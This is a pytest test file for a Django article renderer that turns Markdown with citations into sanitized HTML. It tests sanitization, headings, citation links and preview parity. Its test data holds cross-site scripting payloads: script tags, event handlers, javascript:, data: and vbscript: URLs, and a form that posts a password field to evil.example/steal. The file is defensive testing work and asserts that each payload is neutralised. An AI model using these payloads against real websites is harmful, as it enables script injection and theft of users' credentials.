"""The one renderer: Markdown with citations → sanitized HTML, for preview and public page.

Whatever a writer (or an attacker with a writer's account) types, the HTML that reaches a
page carries no script, no event handler and no javascript:/data: URL; headings start at
h2; the same body always renders to the same HTML; and the editor's preview shows exactly
what the public page will.
"""

from __future__ import annotations

import re

import lxml.html
import pytest

from articles.rendering import markdownify_preview, render_article, sanitize_html

STYLES = ("apa", "ama")


def csl(key: str, family: str, year: int = 2019, **extra) -> dict:
    item = {
        "id": key,
        "type": "article-journal",
        "title": f"Findings of {key}",
        "author": [{"family": family, "given": "A."}],
        "issued": {"date-parts": [[year]]},
        "container-title": "Journal of Sex Research",
    }
    item.update(extra)
    return item


LIBRARY = {
    "parker2019": csl("parker2019", "Parker", DOI="10.1080/00224499.2019.1610151"),
    "rauer2015": csl("rauer2015", "Rauer", 2015, PMID="25866363"),
    "adams2020": csl("adams2020", "Adams", 2020),
}


def parse(fragment: str):
    return lxml.html.fragment_fromstring(fragment or "<p></p>", create_parent="div")


def visible_text(fragment: str) -> str:
    return " ".join(parse(fragment).text_content().split())


def render(body: str, style: str = "apa", references=None):
    return render_article(
        body=body, references=LIBRARY if references is None else references, style=style
    )


# --- Hostile input is rendered inert ------------------------------------------------------

DANGEROUS_TAGS = (
    "script",
    "style",
    "iframe",
    "frame",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "meta",
    "link",
    "base",
    "svg",
    "math",
)


def assert_inert(html: str) -> None:
    root = parse(html)
    for tag in DANGEROUS_TAGS:
        assert root.xpath(f".//{tag}") == [], f"<{tag}> survived in {html!r}"
    for element in root.iter():
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"{name} on <{element.tag}>"
            assert name.lower() not in {"style", "srcdoc", "formaction", "http-equiv"}
            if name.lower() in {"href", "src", "action", "data", "xlink:href"}:
                scheme = value.strip().lower().replace("\t", "").replace("\n", "")
                assert not scheme.startswith(("javascript:", "data:", "vbscript:")), value


HOSTILE_BODIES = [
    # (body, text that must be absent from the HTML, harmless text that must remain)
    ("Hello <script>alert(1)</script> world", "alert", ["Hello", "world"]),
    ("Hi <img src=x onerror=alert(1)> there", "onerror", ["Hi", "there"]),
    (
        'Click <a href="https://ok.example" onclick="alert(1)">me</a> now',
        "onclick",
        ["Click", "me", "now"],
    ),
    ("Link [text](javascript:alert(1)) end", "javascript", ["Link", "text", "end"]),
    ('Mixed <a href="JaVaScRiPt:alert(1)">case</a> end', "alert", ["Mixed", "case", "end"]),
    (
        'Tab <a href="java&#x09;script:alert(1)">tabbed</a> end',
        "alert",
        ["Tab", "tabbed", "end"],
    ),
    (
        "Data [doc](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) end",
        "data:",
        ["Data", "doc", "end"],
    ),
    (
        "Pic ![diagram](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) end",
        "data:",
        ["Pic", "end"],
    ),
    ('Frame <iframe src="https://evil.example"></iframe> end', "evil.example", ["Frame", "end"]),
    ("Style <style>body{display:none}</style> end", "display", ["Style", "end"]),
    ("Svg <svg><script>alert(1)</script></svg> end", "alert", ["Svg", "end"]),
    ("Svg2 <svg onload=alert(1)> end", "onload", ["Svg2", "end"]),
    ('Obj <object data="https://evil.example/x.swf"></object> end', "evil", ["Obj", "end"]),
    ('Emb <embed src="https://evil.example/x.swf"> end', "evil", ["Emb", "end"]),
    (
        'Form <form action="https://evil.example/steal"><input name="pw"></form> end',
        "evil",
        ["Form", "end"],
    ),
    (
        '<meta http-equiv="refresh" content="0;url=https://evil.example">\n\nAfter meta',
        "refresh",
        ["After meta"],
    ),
    ("Vb [x](vbscript:msgbox(1)) end", "vbscript", ["Vb", "end"]),
    (
        '<div style="background:url(javascript:alert(1))">Styled</div>',
        "javascript",
        ["Styled"],
    ),
    ('<p title="x" onmouseover="alert(1)">Hover</p>', "onmouseover", ["Hover"]),
    ("Ref [x][evil]\n\n[evil]: javascript:alert(1)", "alert", ["Ref"]),
    # pandoc makes it a link; nh3 drops the href, the words stay as harmless text.
    ("Auto <javascript:alert(1)> end", 'href="javascript', ["Auto", "end"]),
    ("Comment <!-- <script>alert(1)</script> --> end", "alert", ["Comment", "end"]),
    (
        "<details open ontoggle=alert(1)><summary>More</summary>Body</details>",
        "ontoggle",
        ["More", "Body"],
    ),
    ('<base href="https://evil.example/">\n\nBased', "evil", ["Based"]),
]


@pytest.mark.parametrize("style", STYLES)
@pytest.mark.parametrize(
    ("body", "absent", "kept"), HOSTILE_BODIES, ids=[b[0][:30] for b in HOSTILE_BODIES]
)
def test_hostile_markup_is_rendered_inert(body, absent, kept, style):
    rendered = render(body, style)
    assert_inert(rendered.html)
    assert absent.lower() not in rendered.html.lower()
    shown = visible_text(rendered.html)
    for words in kept:
        assert words in shown


def test_hostile_markup_next_to_a_citation_keeps_the_citation():
    rendered = render("<script>alert(1)</script> Closeness helps [@parker2019].")
    assert_inert(rendered.html)
    assert "alert" not in rendered.html
    links = parse(rendered.html).xpath(".//a[@class='citation']/@href")
    assert links == ["#ref-parker2019"]


def test_code_shows_markup_as_text():
    rendered = render("Type `<script>alert(1)</script>` to see it.")
    assert_inert(rendered.html)
    (code,) = parse(rendered.html).xpath(".//code")
    assert code.text_content() == "<script>alert(1)</script>"


def test_safe_links_and_images_survive():
    rendered = render(
        "See [the clinic](https://clinic.example/help) or call [us](tel:+15555550100).\n\n"
        "![A calm room](/media/articles/inline/room.jpg)"
    )
    root = parse(rendered.html)
    assert root.xpath(".//a/@href") == ["https://clinic.example/help", "tel:+15555550100"]
    (img,) = root.xpath(".//img")
    assert img.get("src") == "/media/articles/inline/room.jpg"
    assert img.get("alt") == "A calm room"


@pytest.mark.parametrize(
    "source",
    ["https://tracker.example/pixel.png", "//tracker.example/pixel.png", "http://x/y.jpg"],
)
def test_images_from_other_sites_lose_their_source(source):
    """A foreign picture could change after approval and reports every reader's visit."""
    rendered = render(f"![A room]({source})")
    (img,) = parse(rendered.html).xpath(".//img")
    assert img.get("src") is None
    assert "tracker.example" not in rendered.html and "http://x" not in rendered.html


@pytest.mark.django_db
def test_the_preview_says_why_a_foreign_image_is_missing():
    html = markdownify_preview("![A room](https://tracker.example/pixel.png)")
    assert "is not a picture uploaded to this site, so it is not shown" in html


def test_sanitize_html_on_its_own():
    cleaned = sanitize_html('<p onclick="x()">Hi<script>alert(1)</script></p><iframe></iframe>')
    assert cleaned == "<p>Hi</p>"


# --- Structure: headings, table of contents, word count -----------------------------------

STRUCTURED = (
    "# Understanding intimacy\n\n"
    "Emotional intimacy is the foundation [@parker2019].\n\n"
    "## The role of couples therapy\n\n"
    "Therapy helps [@rauer2015; @parker2019].\n\n"
    "### Finding a therapist\n\n"
    "Ask your doctor.\n\n"
    "#### Small print\n\n"
    "Not in the contents.\n"
)


@pytest.mark.parametrize("style", STYLES)
def test_no_h1_in_the_body_headings_start_at_h2(style):
    root = parse(render(STRUCTURED, style).html)
    assert root.xpath(".//h1") == []
    assert [h.text_content() for h in root.xpath(".//h2")] == [
        "Understanding intimacy",
        "The role of couples therapy",
    ]
    assert [h.text_content() for h in root.xpath(".//h3")] == ["Finding a therapist"]


@pytest.mark.parametrize("style", STYLES)
def test_table_of_contents_entries_point_at_the_headings(style):
    rendered = render(STRUCTURED, style)
    assert [entry["name"] for entry in rendered.toc] == [
        "Understanding intimacy",
        "The role of couples therapy",
        "Finding a therapist",
    ]
    heading_ids = set(parse(rendered.html).xpath(".//h2/@id | .//h3/@id"))
    for entry in rendered.toc:
        assert entry["id"] in heading_ids
        assert entry["level"] <= 3


def test_citation_in_a_heading():
    first = render("## Why it matters [@parker2019]\n\nText.")
    second = render("## Why it matters [@parker2019]\n\nText.")
    (heading,) = parse(first.html).xpath(".//h2")
    assert " ".join(heading.text_content().split()) == "Why it matters (Parker, 2019)"
    (entry,) = first.toc
    assert "zcite" not in entry["name"] and "zcite" not in entry["id"]
    assert entry["id"] == heading.get("id")
    assert first.toc == second.toc


def test_word_count_counts_the_words():
    rendered = render("One two three four five.")
    assert rendered.word_count == 5
    assert render(STRUCTURED).word_count > 20


def test_empty_body():
    rendered = render("")
    assert rendered.html == ""
    assert rendered.references_html == ""
    assert rendered.toc == []
    assert rendered.word_count == 0


# --- Citations through the renderer -------------------------------------------------------


@pytest.mark.parametrize("style", STYLES)
def test_rendered_citations_and_reference_list_link_both_ways(style):
    body = (
        "Intro [@parker2019]. Then [@rauer2015; @parker2019, p. 5]. As @adams2020 says. "
        "All three [@adams2020; @parker2019; @rauer2015].\n\n"
        "- In a list [@rauer2015]\n\n> In a quote [-@adams2020]\n"
    )
    rendered = render(body, style)
    page = parse(rendered.html + rendered.references_html)
    ids = page.xpath(".//@id")
    assert len(ids) == len(set(ids))
    citations = page.xpath(".//a[@class='citation']")
    assert len(citations) >= 7
    for link in citations:
        assert link.get("href")[1:] in ids
    backlinks = page.xpath(".//a[@class='backlink']/@href")
    cite_ids = {i for i in ids if i.startswith("cite-")}
    assert {href[1:] for href in backlinks} == cite_ids
    assert rendered.cited_keys and set(rendered.cited_keys) == {
        "parker2019",
        "rauer2015",
        "adams2020",
    }
    entry_links = page.xpath(".//span[@class='reference-entry']//a/@href")
    assert "https://doi.org/10.1080/00224499.2019.1610151" in entry_links
    assert "https://pubmed.ncbi.nlm.nih.gov/25866363/" in entry_links


def test_citations_in_code_stay_literal_in_the_page():
    body = "Write `[@parker2019]` to cite.\n\n```\n[@rauer2015]\n```\n\nReal [@adams2020]."
    rendered = render(body)
    root = parse(rendered.html)
    assert [c.text_content().strip() for c in root.xpath(".//code")] == [
        "[@parker2019]",
        "[@rauer2015]",
    ]
    assert root.xpath(".//a[@class='citation']/@href") == ["#ref-adams2020"]
    assert rendered.cited_keys == ("adams2020",)


def test_email_address_stays_text_and_is_not_reported():
    rendered = render("Write to info@clinic.example with questions.")
    assert rendered.unknown_keys == ()
    assert "info@clinic.example" in visible_text(rendered.html)


@pytest.mark.parametrize("style", STYLES)
def test_unknown_key_is_visible_and_reported(style):
    rendered = render("Fine [@parker2019].\n\nBroken [@nosuch].", style)
    assert rendered.unknown_keys == (("nosuch", 3),)
    (mark,) = parse(rendered.html).xpath(".//mark[@class='citation-error']")
    assert "nosuch" in mark.text_content()


def test_hostile_reference_data_is_text_in_the_rendered_page():
    evil = csl(
        "evil",
        "<script>alert(1)</script>",
        title='<img src=x onerror="alert(2)">',
        URL="javascript:alert(3)",
    )
    rendered = render("[@evil]", references={"evil": evil})
    for fragment in (rendered.html, rendered.references_html):
        assert_inert(fragment)
        assert parse(fragment).xpath(".//img | .//script") == []
    assert "<script>alert(1)</script>" in visible_text(rendered.references_html)


# --- Determinism and the preview ----------------------------------------------------------


@pytest.mark.parametrize("style", STYLES)
def test_rendering_is_deterministic(style):
    first = render(STRUCTURED, style)
    second = render(STRUCTURED, style)
    assert first == second


def references_section(rendered) -> str:
    return f'<section class="references"><h2>References</h2>{rendered.references_html}</section>'


@pytest.fixture
def library(make_reference):
    make_reference("parker2019", authors=[{"family": "Parker", "given": "S. J."}])
    make_reference(
        "rauer2015",
        authors=[{"family": "Rauer", "given": "A."}, {"family": "Volling", "given": "B."}],
        issued_year=2015,
    )
    from references.models import Reference

    return {ref.key: ref.to_csl() for ref in Reference.objects.all()}


@pytest.mark.django_db
@pytest.mark.parametrize("style", STYLES)
def test_preview_is_the_public_render_plus_the_reference_list(library, settings, style):
    settings.CITATION_STYLE = style
    body = STRUCTURED
    rendered = render_article(body=body, references=library)
    assert markdownify_preview(body) == rendered.html + references_section(rendered)


@pytest.mark.django_db
def test_preview_without_citations_has_no_reference_section(library):
    body = "## Plain\n\nNo citations."
    assert markdownify_preview(body) == render_article(body=body, references={}).html


@pytest.mark.django_db
def test_preview_names_unknown_keys_with_their_lines(library):
    body = "Known [@parker2019].\n\nUnknown [@x] here.\n\nAnd [@nosuch2020; @rauer2015]."
    preview = markdownify_preview(body)
    root = parse(preview)
    (notice,) = root.xpath(".//div[@class='preview-errors']")
    assert notice.get("role") == "alert"
    items = [" ".join(li.text_content().split()) for li in notice.xpath(".//li")]
    assert items == [
        "Unknown citation key “x” on line 3.",
        "Unknown citation key “nosuch2020” on line 5.",
    ]
    rendered = render_article(body=body, references=library)
    assert preview.endswith(rendered.html + references_section(rendered))


@pytest.mark.django_db
def test_preview_escapes_unknown_key_markup(library):
    preview = markdownify_preview("[@a<script>b]")
    assert "<script>" not in preview
    assert "a&lt;script&gt;b" in preview


@pytest.mark.django_db
def test_preview_matches_the_published_page(published_article):
    revision = published_article.live_revision
    preview = markdownify_preview(revision.body)
    assert preview.startswith(revision.rendered_html)
    assert revision.references_html
    assert revision.references_html in preview


# --- Memo caches: re-rendering while typing re-formats only what changed ------------------


def long_document(paragraphs: int = 60, edit: str = "") -> tuple[str, dict]:
    references = {f"src{n}": csl(f"src{n}", f"Author{n:02d}", 2000 + n % 20) for n in range(30)}
    lines = []
    for n in range(paragraphs):
        lines.append(f"## Section {n}\n")
        lines.append(
            f"Paragraph {n} says something [@src{n % 30}] and more [@src{(n + 7) % 30}, p. {n}]"
            f"; also @src{(n + 3) % 30}.{edit if n == paragraphs // 2 else ''}\n"
        )
    return "\n".join(lines), references


def test_ama_superscripts_sit_after_the_word_and_outside_periods_and_commas():
    refs = {
        "a": {
            "id": "a",
            "type": "book",
            "title": "T",
            "author": [{"family": "Adams", "given": "B."}],
            "issued": {"date-parts": [[2020]]},
        }
    }
    html = render_article(
        body="Needs are met [@a]. Also [@a], and [@a]: done.", references=refs, style="ama"
    ).html
    text = re.sub(r"<[^>]+>", "", html)
    assert text == "Needs are met.1 Also,1 and1: done."
